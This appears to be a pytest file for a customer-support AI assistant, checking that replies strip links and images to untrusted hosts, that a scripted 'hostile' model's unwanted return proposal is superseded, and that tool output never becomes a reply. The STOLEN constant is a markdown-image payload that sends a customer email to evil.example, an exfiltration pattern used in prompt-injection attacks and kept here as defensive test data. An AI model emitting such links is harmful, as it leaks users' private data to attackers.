from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from assistant.agent import Agent
from assistant.models import Brains
from assistant.own_hosts import own_hosts
from assistant.settings import Settings, SettingsError, read_settings
from assistant.testing import Calls, Says, ScriptedModel
from crm_tools.service.messages import Message
from knowledge_base.articles import keep_article
from knowledge_base.loaders.drafts import Draft
from knowledge_base.passages import Audience
from tests.assistant.conftest import Customer

Talk = Callable[..., Customer]
STOLEN = "![a map](https://evil.example/p.png?d=lin@example.com)"


def said_by_code(text: str) -> Says:
    """A draft whose sentences need no proof here: these tests are about its links."""
    return Says(text, {"state": {}})


def shelve(customer: Customer, article: str, source: str, audience: Audience) -> None:
    with customer.mind.store.transaction() as session:
        keep_article(
            session, Draft(article, "en", "Page", "Words.", audience=audience), source=source, at=customer.mind.clock()
        )


async def heard(customer: Customer) -> Message:
    return await customer.hears("how long can I return it?")


async def test_no_reply_shows_a_picture_or_a_link_to_anybodys_host(talk: Talk) -> None:
    reply = await heard(talk(said_by_code(f"14 days [r1].\n{STOLEN}\n[Claim it](https://evil.example/x) <b>now</b>.")))

    assert reply.text == "14 days [1].\na map\nClaim it ‹b>now‹/b>."


async def test_the_operators_hosts_and_those_of_public_help_pages_may_be_linked_to(talk: Talk) -> None:
    kept = "[Shop](https://www.example.com/a), [help](https://docs.example.com/b)."
    lin = talk(said_by_code(f"{kept} https://staff.example.com/c"))
    lin.mind = replace(lin.mind, hosts=frozenset({"www.example.com"}))
    shelve(lin, "page", "https://docs.example.com/b", Audience.PUBLIC)
    shelve(lin, "rules", "https://staff.example.com/c", Audience.STAFF)

    assert (await heard(lin)).text == f"{kept} (link removed)"


async def test_a_model_with_a_stand_in_leaves_no_proposal_behind_a_blocked_draft(talk: Talk) -> None:
    lin = talk()
    harm = Calls.one("start_return", order_number="A-1001", items=["Aria One"], reason="too loud")
    hostile, honest = ScriptedModel.of(harm, "", harm, ""), ScriptedModel.of("Which item is it?")
    lin.mind = replace(
        lin.mind,
        agent=Agent(Brains(hostile), lin.mind.toolbox, lin.mind.meter),
        stand_in=Agent(Brains(honest), lin.mind.toolbox, lin.mind.meter),
    )

    reply = await heard(lin)

    assert reply.text == "Which item is it?"
    assert reply.payload["proposal"] is None
    assert (lin.count("proposals"), lin.count("proposals", status="superseded")) == (2, 2)


async def test_a_tools_answer_is_never_a_reply(talk: Talk) -> None:
    raw = '{"status": "failed", "receipt": "r2", "message": "there is no order A-3001 among this customer\'s orders"}'
    reply = await heard(talk(Calls.one("order_status", order_number="A-3001"), raw, "Which item is it?"))

    assert reply.text == "Which item is it?"


def settings_of(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, **values: Any) -> Settings:
    monkeypatch.chdir(tmp_path)
    return read_settings(**values)


def test_hosts_are_those_of_the_settings(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    named = settings_of(
        monkeypatch, tmp_path, base_url="https://Help.example.com:8443/x", link_hosts="a.example, B.example"
    )

    assert own_hosts(named) == {"help.example.com", "a.example", "b.example"}
    assert own_hosts(settings_of(monkeypatch, tmp_path)) == frozenset()


@pytest.mark.parametrize("hosts", ["https://a.example", "a.example/x", "*", "a b", "a.example:80"])
def test_what_is_no_host_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, hosts: str) -> None:
    with pytest.raises(SettingsError, match="DESKSIDE_LINK_HOSTS"):
        settings_of(monkeypatch, tmp_path, link_hosts=hosts)
